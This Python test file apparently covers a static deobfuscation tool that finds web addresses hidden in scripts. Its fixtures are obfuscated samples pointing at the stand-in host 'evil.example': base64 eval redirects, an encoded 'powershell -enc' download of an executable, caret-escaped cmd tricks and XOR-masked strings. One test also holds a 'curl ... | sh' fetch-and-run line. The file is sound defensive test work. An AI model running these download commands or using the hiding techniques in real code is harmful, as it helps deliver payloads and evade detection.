"""What a script hides, found without running it."""

from __future__ import annotations

import base64
import gzip
import io
import random
import zipfile
import zlib

import pytest

from sabaki.files.unravel import addresses, unravel

URL = "https://evil.example/a"
LONG = f"location.href = '{URL}'; // what the page does in the end"


def coded(text: str | bytes) -> str:
    return base64.b64encode(text.encode() if isinstance(text, str) else text).decode()


def archive() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as box:
        box.writestr("invoice.js", "x" * 200)
    return buffer.getvalue()


def masked(text: str, key: bytes) -> bytes:
    return bytes(byte ^ key[number % len(key)] for number, byte in enumerate(text.encode()))


@pytest.mark.parametrize(
    ("code", "how"),
    [
        ("var a = 'https://ev' + \"il.exa\" +\n 'mple/a';", ""),
        ('u = "https://ev" & _\r\n "il.example/a"', ""),
        ("x = ['https://ev', 'il.example/a'].join('');", ""),
        ("document.write(unescape('%3Ca%20href%3D%22https%3A//evil.example/a%22%3E'))", "percent escapes"),
        ("unescape('%u0068%u0074%u0074%u0070%u0073%u003a%u002f%u002fevil.example/a')", "percent escapes"),
        (f"eval(atob('{coded(LONG)}'))", "base64"),
        (f"eval(atob(atob('{coded(coded(LONG))}')))", "base64"),
        ("eval(String.fromCharCode(" + ",".join(str(ord(c)) for c in LONG) + "))", "character codes"),
        ("[" + ",".join(str(ord(c) + 7) for c in LONG) + "].map(c => String.fromCharCode(c - 7))", "character codes"),
        ("[" + ",".join(hex(ord(c)) for c in LONG) + "]", "character codes"),
        ("s = " + " & ".join(f"Chr({ord(c)})" for c in URL), "numbered characters"),
        ("$u = " + "+".join(f"[char]0x{ord(c):x}" for c in URL), "numbered characters"),
        ("powershell -enc " + coded(f"iwr {URL} -o x.exe".encode("utf-16-le")), "base64"),
        ("cmd /c pow^er^sh^ell iwr https^://evil.example/a", "shell escapes"),
        ("set x=https\r\nset y=://evil.example\r\nstart %x%%y%/a", ""),
        ("set k=abcdefghijklmnopqrstuvwxyz\r\n%k:~7,1%%k:~19,1%%k:~19,1%ps://evil.example/a", "shell escapes"),
        ("&('{1}{0}' -f 'evil.example/a','https://')", "format operator"),
        (f'StrReverse("{URL[::-1]}")', "backwards"),
        (f"'{URL[::-1]}'.split('').reverse().join('')", "backwards"),
        ("var u = '" + "".join(f"\\x{ord(c):02x}" for c in URL) + "'", ""),
        ("h = '" + URL.encode().hex() + "'", "hexadecimal"),
        ("<p>" + "".join(f"&#{ord(c)};" for c in URL), "entities"),
        ('<iframe src="data:text/html;base64,' + coded(f"<a href='{URL}'>") + '">', "data: address"),
        ("$s = '" + coded(gzip.compress(LONG.encode() * 3)) + "'", "base64"),
        ("new IO.Compression.DeflateStream('" + coded(zlib.compress(LONG.encode() * 3)[2:-4]) + "')", "base64"),
        ("for(i..) c.charCodeAt(i) ^ 0x5a; d = '" + coded(masked(LONG, b"\x5a")) + "'", "base64"),
        ("var k='S3cret'; o ^= k.charCodeAt(i % k.length); d='" + coded(masked(LONG, b"S3cret")) + "'", "base64"),
    ],
)
def test_each_way_of_hiding(code: str, how: str) -> None:
    found = unravel(code)
    assert any(URL in addresses(text) for text in found.texts)
    if how:
        assert how in found.how


def test_a_file_in_the_code_is_laid_aside() -> None:
    whole = archive()
    assert unravel(f"var f = '{coded(whole)}';").blobs == [whole]
    text = coded(whole)
    pieces = "' +\n '".join(text[at : at + 60] for at in range(0, len(text), 60))
    assert unravel(f"var f = '{pieces}';").blobs == [whole]
    assert unravel("new Uint8Array([" + ",".join(map(str, whole)) + "])").blobs == [whole]


def test_halves_of_characters_are_put_together_or_replaced() -> None:
    texts = unravel("var a = '\\ud83d\\ude00 \\ud800 https://evil.example/a'").texts
    assert texts == ["var a = '\U0001f600 \ufffd https://evil.example/a'"]


def test_harmless_code_hides_nothing() -> None:
    code = """
    import {a} from './b.js';
    const total = items.reduce((sum, item) => sum + item.price, 0);
    if (total > 100 && user.name === 'x') { console.log("Total: " + total + " yen"); }
    <script src="https://cdn.example/x.js" integrity="sha384-oqVuAfXRKap7fdgcCY5uykM6+R9GqQ8K/uxy9rx7HNQlGYl1kPzQho1wx4JwY8wC">
    <img src="data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk">
    """
    found = unravel(code)
    assert not found.how
    assert not found.blobs


def test_addresses_end_where_the_code_goes_on() -> None:
    assert addresses("curl https://a.example/x|sh; get('https://a.example/y');f(https://a.example/z);") == [
        "https://a.example/x",
        "https://a.example/y",
        "https://a.example/z",
    ]


@pytest.mark.parametrize(
    "flood",
    ["A" * 300_000, "1," * 150_000, "'+'" * 100_000, "%41" * 100_000, "set a=%a%\n" * 30_000, "chr(1)&" * 40_000,
     "'{0}{1}' -f " * 30_000, "data:," * 50_000, "&#" * 150_000, "%x" * 150_000, ("A" * 76 + "\n") * 4_000],
)  # fmt: skip
def test_floods_end(flood: str) -> None:
    assert len(unravel(flood).texts) < 100


def test_never_raises_on_damage() -> None:
    dice = random.Random(4)
    code = f"eval(atob('{coded(LONG)}')); Chr(104)&Chr(116)&Chr(116); '{{1}}{{0}}' -f 'a','b'; \\u{{110000}} ^ 0x41 %u12 &#1114112;&#x0;&#1;&#2;"
    for end in range(0, len(code), 3):
        unravel(code[:end])
    for _ in range(200):
        broken = list(code)
        for _ in range(5):
            broken[dice.randrange(len(broken))] = chr(dice.randrange(1, 300))
        unravel("".join(broken))
